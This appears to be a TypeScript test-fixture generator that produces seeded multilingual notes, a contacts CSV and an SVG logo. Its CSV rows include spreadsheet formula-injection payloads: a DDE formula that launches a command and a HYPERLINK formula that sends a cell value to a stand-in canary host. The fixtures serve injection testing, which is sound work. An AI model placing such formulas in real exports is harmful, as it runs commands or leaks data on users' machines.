import { type Bytes, utf8 } from './bytes'
import { between, chance, pick, shuffled } from './chance'

const customers = [
  'Hôtel Belvédère',
  'Brauerei Grünwald',
  'Ateliers Çelik',
  'Papeles Ibáñez',
  'Nordlys Maritim',
] as const
const sentences = [
  'The first three weeks go into listening: who answers, when, and to which question.',
  'We would rather write to forty people who fit than to four hundred who might.',
  'Le tarif comprend la mise en route, deux revues par mois et un compte rendu écrit.',
  'Für die Einführung rechnen wir mit zwei halben Tagen und einer gemeinsamen Auswertung.',
  'Every figure below was counted on your own list, without the duplicates.',
  'Nothing is sent before one of you has read it and said yes.',
  'Nous gardons un seul interlocuteur du début à la fin, joignable par téléphone.',
  'If the answer rate falls under six per cent for two weeks, we stop and say why.',
  'Your two busiest months are left alone: nobody wants a visitor at the door then.',
  'Zwischen zwei Nachrichten liegen mindestens drei Werktage.',
  'Most answers come on the second message, and most of those before ten in the morning.',
  'Les réponses négatives sont lues aussi: elles disent souvent pourquoi.',
  'Una persona de su equipo aprueba cada primer mensaje durante el primer mes.',
  'What we learn about tone in the first fortnight goes into writing for all who follow.',
  'Kündigen können Sie zum Monatsende, ohne Angabe von Gründen.',
  'À la fin du trimestre, vous gardez la liste, les textes et les chiffres.',
] as const

const greetings = [
  'Français: à bientôt, cœur à cœur, où que ce soit.',
  'Ελληνικά: τα λέμε αύριο το πρωί.',
  'Русский: договорились, до четверга.',
  '日本語: よろしくお願いいたします。',
  'العربية: شكرًا جزيلًا، إلى اللقاء.',
  'עברית: נדבר ביום שני.',
  'हिन्दी: कल मिलते हैं।',
  '한국어: 확인 부탁드립니다.',
  'Tiếng Việt: hẹn gặp lại tuần sau.',
  'Emoji: 👩🏽‍💻 🇫🇷 ✅',
] as const

export function notesText(seed: number): Bytes {
  const next = chance(seed)
  const lines = shuffled(sentences, next)
    .slice(0, between(5, 12, next))
    .map((sentence, index) => `${index + 1}. ${sentence}`)
  const start = between(0, greetings.length - 1, next)
  return utf8(
    [
      `Notes, no. ${seed}`,
      '',
      ...lines,
      '',
      ...greetings.slice(start),
      ...greetings.slice(0, start),
      '',
    ].join('\n'),
  )
}

const formulas = [
  '=HYPERLINK("https://canary.invalid/"&A1,"open")',
  '=1+1',
  '+33 1 84 88 00 00',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
] as const

export function contactsCsv(seed: number): Bytes {
  const next = chance(seed)
  const rows = Array.from({ length: between(6, 14, next) }, (_, index) => [
    `${seed}-${index + 1}`,
    pick(customers, next),
    index < formulas.length ? (formulas[index] ?? '') : pick(formulas, next),
    `said "${pick(['yes', 'später', 'peut-être'], next)}",\nthen called back`,
    between(1000, 98_000, next),
  ])
  return utf8(
    [['Ref', 'Company', 'Note', 'Answer', 'Amount'], ...rows]
      .map((row) => `${row.map(csvCell).join(',')}\r\n`)
      .join(''),
  )
}

function csvCell(value: string | number): string {
  return /[",\r\n]/.test(`${value}`) ? `"${`${value}`.replaceAll('"', '""')}"` : `${value}`
}

export function logoSvg(seed: number): Bytes {
  const hue = Math.floor(chance(seed)() * 360)
  const tall = 40 + (Math.abs(seed) % 40)
  return utf8(`<svg xmlns="http://www.w3.org/2000/svg" width="240" height="160" viewBox="0 0 240 160">
<rect width="240" height="160" fill="hsl(${hue} 40% 92%)"/>
<circle cx="80" cy="76" r="46" fill="hsl(${hue} 40% 60%)"/>
<path d="M148 122V${tall}h24V122zM184 122V${tall + 24}h24V122z" fill="hsl(${(hue + 60) % 360} 35% 50%)"/>
<text x="16" y="148" font-family="sans-serif" font-size="12">no. ${seed}</text>
</svg>
`)
}
